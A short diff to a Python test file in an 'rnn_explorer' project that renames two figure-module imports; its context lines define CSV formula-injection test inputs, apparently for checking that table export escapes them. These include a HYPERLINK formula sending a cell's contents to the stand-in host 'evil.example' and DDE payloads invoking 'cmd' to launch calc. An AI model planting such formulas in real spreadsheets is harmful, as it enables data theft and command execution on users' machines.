@@ -9,9 +9,9 @@ import numpy as np
 import pytest
 
 from rnn_explorer.figures.base import Figure
-from rnn_explorer.figures.drawing import Drawing
+from rnn_explorer.figures.svg_panel import Drawing
 from rnn_explorer.figures.table import as_text, csv_text
-from rnn_explorer.figures.words import Words
+from rnn_explorer.figures.text_panel import Words
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 FORMULAS = [LINK, "@SUM(A1)", "+A1", "-B2+cmd|' /C calc'!A0", "\t=1", "\r=1", "=", "-2+3+cmd|'x'!A0", "--", "+"]
